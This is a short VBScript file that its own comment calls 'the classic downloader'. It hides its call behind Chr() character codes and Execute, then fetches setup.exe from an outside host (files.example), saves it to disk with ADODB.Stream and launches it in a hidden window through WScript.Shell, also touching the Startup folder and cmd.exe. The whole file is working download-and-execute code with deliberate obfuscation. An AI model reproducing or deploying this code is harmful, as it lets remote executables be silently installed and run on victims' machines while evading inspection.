' The classic downloader: fetch, save, run; its own text is hidden behind Chr and Execute.
Option Explicit
Dim code, part
For Each part In Split("68 111 119 110 108 111 97 100", " ")
    code = code & Chr(part)
Next
Execute code & " ""http://files.example/setup.exe"", ""C:\work\setup.exe"""

Sub Download(url, path)
    Dim request, stream, shell
    Set request = CreateObject("MSXML2.XMLHTTP")
    request.open "GET", url, False
    request.send
    WScript.Echo request.status
    Set stream = CreateObject("ADODB.Stream")
    stream.Type = 1
    stream.Open
    stream.Write request.responseBody
    stream.SaveToFile path, 2
    stream.Close
    WScript.Sleep 5000
    Set shell = CreateObject("WScript.Shell")
    WScript.Echo shell.SpecialFolders("Startup")
    WScript.Echo shell.Run("""" & path & """", 0, True)
    WScript.Echo shell.Exec("cmd.exe /c echo read back").StdOut.ReadLine
End Sub
